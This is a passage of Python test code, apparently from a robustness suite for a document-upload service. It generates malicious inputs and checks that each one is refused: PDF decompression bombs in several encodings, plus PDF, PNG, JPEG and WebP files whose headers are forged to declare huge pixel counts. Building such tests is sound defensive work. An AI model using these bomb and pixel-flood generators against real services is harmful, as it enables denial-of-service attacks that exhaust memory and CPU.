    picture.OPI = Dictionary({f"/{random.choice(['1.3', '2.0'])}": Dictionary(Type=Name.OPI, F=held)})
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=picture))


@pdf_attack("pdf pages", refusals.NoPages)
def no_pages(document: pikepdf.Pdf, random: Random) -> None:
    del document.pages[:]


@attack("pdf encrypted", refusals.PasswordProtected, ".pdf")
def a_password(content: bytes, random: Random) -> bytes:
    keys = pikepdf.Encryption(owner="a", user=random.choice(["", "b"]), R=random.choice([4, 6]))
    return files.edited(content, lambda _document: None, encryption=keys)


def _raw_stream(document: pikepdf.Pdf, raw: bytes, filters: list[str], **more: object) -> None:
    stream = Stream(document, b"x")
    stream.write(raw, filter=Array([Name(f"/{name}") for name in filters]))
    for key, value in more.items():
        stream.stream_dict[f"/{key}"] = value
    document.Root.Extra = stream


def _deflated(megabytes: int) -> bytes:
    packing = zlib.compressobj(9)
    return b"".join([*(packing.compress(ZEROS) for _number in range(megabytes)), packing.flush()])


def raw_pdf_attack(refusal: type[Refused]) -> Callable[[Callable[[pikepdf.Pdf, Random], object]], object]:
    """Saved as it is: qpdf would unpack the bomb to pack it better."""

    def add(edit: Callable[[pikepdf.Pdf, Random], object]) -> object:
        def mutate(content: bytes, random: Random) -> bytes:
            return files.edited(content, lambda document: edit(document, random), compress_streams=False,
                                stream_decode_level=pikepdf.StreamDecodeLevel.none)  # fmt: skip

        attack("pdf bombs", refusal, ".pdf", name=edit.__name__)(mutate)
        return edit

    return add


@raw_pdf_attack(refusals.Bomb)
def a_stream_of_zeros(document: pikepdf.Pdf, random: Random) -> None:
    _raw_stream(document, _deflated(random.randrange(130, 200)), ["FlateDecode"])


@raw_pdf_attack(refusals.Bomb)
def a_stream_packed_twice(document: pikepdf.Pdf, random: Random) -> None:
    raw = zlib.compress(_deflated(random.randrange(130, 200)), 9)
    _raw_stream(document, raw, ["FlateDecode", "FlateDecode"])


@raw_pdf_attack(refusals.Bomb)
def a_stream_of_long_runs(document: pikepdf.Pdf, random: Random) -> None:
    raw = zlib.compress(b"\x81\0" * (1024 * random.randrange(1100, 1200)), 9)
    _raw_stream(document, raw, ["FlateDecode", "RunLengthDecode"])


@raw_pdf_attack(refusals.Bomb)
def a_hexadecimal_bomb(document: pikepdf.Pdf, random: Random) -> None:
    _raw_stream(document, _deflated(130).hex().encode() + b">", ["ASCIIHexDecode", "Fl"])


@raw_pdf_attack(refusals.Bomb)
def a_bomb_in_letters(document: pikepdf.Pdf, random: Random) -> None:
    import base64

    _raw_stream(document, base64.a85encode(_deflated(130)) + b"~>", ["ASCII85Decode", "FlateDecode"])


@raw_pdf_attack(refusals.Bomb)
def letters_that_are_all_zeros(document: pikepdf.Pdf, random: Random) -> None:
    raw = b"z" * (33 * 1024**2) + b"~>"
    _raw_stream(document, raw, [random.choice(["ASCII85Decode", "A85"])])


@raw_pdf_attack(refusals.Bomb)
def a_picture_that_says_it_is_small(document: pikepdf.Pdf, random: Random) -> None:
    more = {"Subtype": Name.Image, "Width": random.randrange(1, 50), "Height": 1, "BitsPerComponent": 8}
    _raw_stream(document, _deflated(random.randrange(3, 20)), ["FlateDecode"], **more, ColorSpace=Name.DeviceGray)


@raw_pdf_attack(refusals.TooManyPixels)
def a_picture_of_too_many_pixels(document: pikepdf.Pdf, random: Random) -> None:
    more = {"Subtype": Name.Image, "Width": random.randrange(30_000, 10**6), "Height": 50_000, "BitsPerComponent": 1}
    _raw_stream(document, zlib.compress(b"x"), ["FlateDecode"], **more, ColorSpace=Name.DeviceGray)


# --- pictures --------------------------------------------------------------------------------------------------------


@attack("pixels", refusals.TooManyPixels, ".png")
def a_png_of_too_many_pixels(content: bytes, random: Random) -> bytes:
    size = random.choice([(12_000, 12_000), (30_001, 1), (2**31 - 1, 2**31 - 1), (1, 40_000)])
    head = b"IHDR" + struct.pack(">LL", *size) + content[24:29]
    return content[:12] + head + struct.pack(">L", zlib.crc32(head)) + content[33:]


@attack("pixels", refusals.TooManyPixels, ".jpg")
def a_jpeg_of_too_many_pixels(content: bytes, random: Random) -> bytes:
    place = content.index(b"\xff\xc0") + 5
    return (
        content[:place]
        + struct.pack(">HH", *random.choice([(12_000, 12_000), (65_535, 65_535), (1, 30_001)]))
        + content[place + 4 :]
    )


@attack("pixels", refusals.TooManyPixels, ".webp")
def a_webp_of_too_many_pixels(_content: bytes, random: Random) -> bytes:
    width, height = random.choice([(16_000, 16_000), (2**24, 2**24), (1, 30_001)])
    body = (
        b"WEBPVP8X" + struct.pack("<LL", 10, 0) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    )
    return b"RIFF" + struct.pack("<L", len(body)) + body


@attack("pixels", refusals.Bomb, ".png")
def a_png_with_a_packed_bomb(content: bytes, random: Random) -> bytes:
    name = random.choice([b"zTXt", b"iCCP"])
    chunk = name + b"a\0\0" + _deflated(random.randrange(9, 30))
    return (
        content[:33] + struct.pack(">L", len(chunk) - 4) + chunk + struct.pack(">L", zlib.crc32(chunk)) + content[33:]
    )
